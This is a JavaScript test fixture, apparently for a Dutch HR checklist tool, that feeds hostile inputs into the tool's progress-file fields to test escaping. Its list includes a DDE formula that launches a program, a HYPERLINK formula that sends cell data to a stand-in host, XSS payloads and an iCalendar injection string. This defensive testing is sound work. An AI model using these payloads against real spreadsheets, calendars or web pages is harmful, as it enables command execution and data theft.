/*
 * What progress files the checks make, as arguments of `set`: place, field, value and, where it wants one, a date.
 */

/* What people, or those who wish them ill, may type. Each goes into every field of text of some factor. */
export const hostileTexts = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://host.invalid/?x="&A1,"klik")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r\n=1+1',
  '  =1+1',
  '＝1+1',
  '＋1 －1 ＠a',
  '\u3000＝1+1',
  '"=1+1";"x";',
  "'=1+1",
  '"',
  ';;;\t,',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '</style></title><!-- weg --> ]]> &lt;b&gt; &amp; &#x3c;',
  '# Kop\n- lijst\n* lijst\n1. een\n> citaat\n```\ncode\n```\n    diep\n---\n===',
  '[klik](javascript:alert(1)) ![i](http://host.invalid/i.png) <http://host.invalid> https://host.invalid',
  '| a | b |\n| --- | --- |\n| c | d |',
  '**vet** _schuin_ `code` ~~weg~~ $x$ \\* \\\\ C:\\nieuw\\map, en; meer: "zo"',
  'einde\r\nEND:VTODO\r\nEND:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:vals\r\nEND:VEVENT',
  'regel\\nregel\r\nregel\rregel\n\n\nregel\u2028regel\u2029regel\u0085regel',
  '\u202eomgekeerd\u202c \u2066binnen\u2069 \u200b\u200d\ufeff \u001b[2J\u0007\u009b31m \ufffe \u{e0041}',
  'cafe\u0301 漢字 👩‍👩‍👧 👍🏽 ﷽ ẞ İ',
  'e\u0301'.repeat(120),
  '漢'.repeat(100),
  '😀'.repeat(80),
  'x' + 'é'.repeat(150),
  'lang'.repeat(500),
]

/* Of who makes the changes and the reports. */
export const role = '=1 <i>Adviseur</i> *HR*; "P&O" \\ | \u202e'

/* Three texts to each of the ten factors of data/checklist.json; `first` says which field has the first of them. */
function hostile(first) {
  const fields = ['owner', 'decision', 'note']
  const changes = [['-', 'organisation', '<b>Waterschap</b> | *A*, B; "C" \\n\r\n# =1 \u202e漢字 e\u0301']]
  for (let factor = 0; factor < 10; factor++) {
    changes.push([`${factor + 1}`, 'due', `2027-01-${10 + factor}`])
    for (let i = 0; i < fields.length; i++)
      changes.push([`${factor + 1}`, fields[(i + first) % 3], hostileTexts[factor * 3 + i]])
  }
  return changes
}

/* Every field with every kind of value, also cleared ones; factors done, begun and open, late and in time. */
const full = [
  ['-', 'organisation', 'Waterschap Rijn & Veen'],
  ['1', 'owner', 'Teamleider HR'],
  ['1', 'due', '2026-03-31'],
  ['1', 'note', 'De projectleider heeft 16 uur per week.\n\nIn 2027 kijken we of dat genoeg is.'],
  ['1/1', 'done', 'yes'],
  ['1/2', 'done', 'yes'],
  ['1/2', 'done', 'no'],
  ['1', 'done', 'yes'],
  ['-', 'report', 'yes', '2026-06-30'],
  ['2', 'owner', 'Secretaris-directeur'],
  ['2', 'due', '2026-02-28'],
  ['2', 'decision', 'Bespreek de Banenafspraak elk kwartaal in de directie, te beginnen in januari 2027.'],
  ['3', 'due', '2031-12-31'],
  ['3/1', 'done', 'yes'],
  ['4', 'owner', 'HR-adviseur'],
  ['4', 'owner', '-'],
  ['4', 'due', '2030-02-28'],
  ['4', 'due', '-'],
  ['4', 'note', 'weg'],
  ['4', 'note', '-'],
  ['5', 'done', 'yes'],
  ['5', 'done', 'no'],
  ['6', 'note', 'Vraag het Platform Inclusiviteit.'],
  ['7', 'owner', '0612345678'],
  ['7', 'decision', '3 mrt 2027'],
  ['7', 'note', 'a,=1+1; +2 en meer, "-3"'],
  ['-', 'jobs', '11', '2026-06-30'],
  ['-', 'jobs', '12,4', '2026-09-30'],
  ['-', 'jobs', '3', '2026-03-31'],
  ['-', 'jobs', '-', '2026-03-31'],
  ['-', 'job_target', '20', '2026-12-31'],
  ['-', 'job_target', '0', '2025-12-31'],
]

export const states = {
  empty: [],
  full,
  'hostile-1': hostile(0),
  'hostile-2': hostile(1),
  'hostile-3': hostile(2),
}

/* Two who each began a file, and did not know of each other. */
export const copies = [
  [
    ['2', 'owner', 'Secretaris-directeur'],
    ['2', 'due', '2026-12-31'],
    ['2', 'note', 'Van de een.\n\nMet een tweede alinea.'],
    ['2/1', 'done', 'yes'],
    ['-', 'jobs', '3', '2026-09-30'],
  ],
  [
    ['2', 'owner', '@HR'],
    ['2', 'due', '2027-03-31'],
    ['2', 'note', 'Van de ander.'],
    ['2', 'done', 'yes'],
    ['-', 'jobs', '4', '2026-09-30'],
  ],
]
